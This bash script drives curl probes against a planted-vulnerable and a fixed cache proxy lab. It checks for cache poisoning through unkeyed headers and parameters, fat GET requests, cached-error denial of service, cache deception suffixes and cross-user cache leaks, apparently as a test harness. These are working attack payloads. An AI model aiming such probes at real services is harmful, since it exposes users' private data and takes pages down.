#!/usr/bin/env bash
# Demonstrate every planted cache case with curl, and check the outcome.
#
#   demo.sh vulnerable|fixed PROXY_BASE ORIGIN_BASE
#
# PROXY_BASE is a Varnish or nginx in front of ORIGIN_BASE (the Flask twin
# of the same name); e.g. with run_stack.py's exports:
#   demo.sh vulnerable "$VARNISH_VULNERABLE" "$ORIGIN_VULNERABLE"
#   demo.sh fixed      "$NGINX_FIXED"        "$ORIGIN_FIXED"
#
# Every probe uses a fresh cache-buster (?cb=...), so the script can be run
# repeatedly against the same caches. For the vulnerable stack every case
# must be EXHIBITED; for the fixed stack none may be. Exit 1 otherwise.
set -u
STACK=${1:?vulnerable|fixed}; P=${2:?proxy base url}; O=${3:?origin base url}
ALICE='X-API-Key: ak_alice_3f9c2e71b8d4'
BOB='X-API-Key: ak_bob_8e2d4c6a1f93'
ALICE_BEARER='Authorization: Bearer tok_alice_5b1e8a9d2c7f'
BOB_BEARER='Authorization: Bearer tok_bob_1c7a9e3b5d20'
TMP=$(mktemp -d); trap 'rm -rf "$TMP"' EXIT
FAILS=0
nonce() { echo "$(date +%s%N)$RANDOM"; }

# req URL [curl args...] -> $TMP/h (headers), $TMP/b (body); sets CODE, XC
req() {
  local url=$1; shift
  curl -s --noproxy '*' --max-time 10 -D "$TMP/h" -o "$TMP/b" "$@" "$url"
  CODE=$(head -1 "$TMP/h" | awk '{print $2}')
  XC=$(grep -i '^x-cache:' "$TMP/h" | tr -d '\r' | awk '{print $2}')
}
has() { grep -q -- "$1" "$TMP/b"; }

# verdict CHECK_ID LABEL EXHIBITED(0/1) OBSERVATION
verdict() {
  local id=$1 label=$2 exhibited=$3 obs=$4 want=1 word
  [ "$STACK" = fixed ] && want=0
  if [ "$exhibited" = 1 ]; then word=EXHIBITED; else word="not exhibited"; fi
  if [ "$exhibited" = "$want" ]; then ok=ok; else ok=FAIL; FAILS=$((FAILS+1)); fi
  printf '%-4s %-24s %-44s %-14s %s\n' "$ok" "$id" "$label" "$word" "$obs"
}

echo "# stack=$STACK proxy=$P origin=$O"

# --- cache.identity-unkeyed: alice primes, bob is served alice's data ------
for cred in "X-API-Key|$ALICE|$BOB" "Bearer|$ALICE_BEARER|$BOB_BEARER"; do
  IFS='|' read -r kind a b <<< "$cred"
  cb=$(nonce)
  req "$P/api/account?cb=$cb" -H "$a"; first=$XC
  req "$P/api/account?cb=$cb" -H "$b"
  has alice@example.test && e=1 || e=0
  verdict cache.identity-unkeyed "/api/account ($kind) alice->bob" $e "alice:$first bob:$CODE $XC"
done
cb=$(nonce)
req "$P/api/wallet?cb=$cb" -H "$ALICE"; first=$XC
req "$P/api/wallet?cb=$cb" -H "$BOB"
has DE89370400440532013000 && e=1 || e=0
verdict cache.identity-unkeyed "/api/wallet (origin: private+Vary)" $e "alice:$first bob:$CODE $XC"

# --- cache.auth-after-lookup: missing / invalid credential gets cached 200 -
for who in anonymous invalid; do
  cb=$(nonce)
  req "$P/api/account?cb=$cb" -H "$ALICE"; first=$XC
  if [ $who = anonymous ]; then req "$P/api/account?cb=$cb"; else req "$P/api/account?cb=$cb" -H 'X-API-Key: ak_invalid_000'; fi
  [ "$CODE" = 200 ] && has alice@example.test && e=1 || e=0
  verdict cache.auth-after-lookup "/api/account alice->$who" $e "alice:$first $who:$CODE $XC"
done

# --- cache.unkeyed-header: forwarded headers reflected + cached ------------
for hdr in "X-Forwarded-Host: evil.example|evil.example" \
           "X-Forwarded-Proto: gopher|gopher://" \
           "X-Forwarded-Scheme: nothttps|nothttps://"; do
  IFS='|' read -r h marker <<< "$hdr"
  cb=$(nonce)
  req "$P/api/links?cb=$cb" -H "$h"; first=$XC
  req "$P/api/links?cb=$cb"
  has "$marker" && e=1 || e=0
  verdict cache.unkeyed-header "/api/links ${h%%:*}" $e "poison:$first clean:$CODE $XC"
done

# --- cache.unkeyed-param: utm_* stripped from the key, reflected ----------
cb=$(nonce)
req "$P/api/promo?cb=$cb&utm_content=POISON$cb"; first=$XC
req "$P/api/promo?cb=$cb"
has "POISON$cb" && e=1 || e=0
verdict cache.unkeyed-param "/api/promo utm_content" $e "poison:$first clean:$CODE $XC"
cb=$(nonce)
req "$P/api/promo?cb=$cb&callback=safeCb&utm_content=x;callback=evilCb"; first=$XC
req "$P/api/promo?cb=$cb&callback=safeCb"
grep -q '^evilCb(' "$TMP/b" && e=1 || e=0
verdict cache.unkeyed-param "/api/promo cloaking utm_content=x;callback=" $e "poison:$first clean:$CODE $XC body:$(head -c 12 "$TMP/b")"

# --- cache.fat-get: JSON body on GET changes the response, not the key ----
cb=$(nonce)
req "$P/api/search?q=wid&cb=$cb" -X GET -H 'Content-Type: application/json' --data '{"q":"gad"}'; first=$XC
req "$P/api/search?q=wid&cb=$cb"
has Gadget && e=1 || e=0
verdict cache.fat-get "/api/search body {q:gad} vs ?q=wid" $e "poison:$first clean:$CODE $XC"

# --- cache.cached-error: CPDoS ---------------------------------------------
cb=$(nonce)
req "$P/api/catalog?cb=$cb" -H 'X-HTTP-Method-Override: DELETE'; first="$CODE $XC"
req "$P/api/catalog?cb=$cb"
[ "$CODE" != 200 ] && e=1 || e=0
verdict cache.cached-error "/api/catalog X-HTTP-Method-Override" $e "poison:$first clean:$CODE $XC"
cb=$(nonce)
big=$(head -c 3000 /dev/zero | tr '\0' A)
req "$P/api/catalog?cb=$cb" -H "X-Oversized-Header: $big"; first="$CODE $XC"
req "$P/api/catalog?cb=$cb"
[ "$CODE" != 200 ] && e=1 || e=0
verdict cache.cached-error "/api/catalog 3000-byte header (HHO)" $e "poison:$first clean:$CODE $XC"

# --- cache.deception: static-looking suffix on a private route ------------
for suffix in "/rampart%s.css" ";rampart%s.js" "%%2frampart%s.png"; do
  cb=$(nonce)
  path="/api/account$(printf "$suffix" "$cb")"
  req "$P$path" -H "$ALICE"; first="$CODE $XC"
  req "$P$path"
  [ "$CODE" = 200 ] && has alice@example.test && e=1 || e=0
  verdict cache.deception "$(printf "$suffix" '')" $e "alice:$first anon:$CODE $XC"
done

# --- Flask-Caching (origin, no shared cache involved) ---------------------
cb=$(nonce)
req "$O/api/app-cached/me?cb=$cb" -H "$ALICE"
req "$O/api/app-cached/me?cb=$cb"; anon=$CODE
has alice@example.test && e1=1 || e1=0
verdict cache.auth-after-lookup "origin /api/app-cached/me alice->anon" $e1 "anon:$anon X-App-Cache:$(grep -i '^x-app-cache:' "$TMP/h" | tr -d '\r' | awk '{print $2}')"
req "$O/api/app-cached/me?cb=$cb" -H "$BOB"
has alice@example.test && e=1 || e=0
verdict cache.identity-unkeyed "origin /api/app-cached/me alice->bob" $e "bob:$CODE X-App-Cache:$(grep -i '^x-app-cache:' "$TMP/h" | tr -d '\r' | awk '{print $2}')"

# --- cache.risky-headers (passive, origin headers) -------------------------
for path in /api/account /api/app-cached/me; do
  req "$O$path?cb=$(nonce)" -H "$ALICE"
  cc=$(grep -i '^cache-control:' "$TMP/h" | tr -d '\r' | cut -d' ' -f2-)
  vary=$(grep -i '^vary:' "$TMP/h" | tr -d '\r' | cut -d' ' -f2-)
  if echo "$cc" | grep -qiE 'private|no-store' || [ -n "$vary" ]; then e=0; else e=1; fi
  verdict cache.risky-headers "origin $path (authenticated)" $e "Cache-Control:'$cc' Vary:'$vary'"
done

echo "# $FAILS unexpected result(s)"
[ "$FAILS" = 0 ]
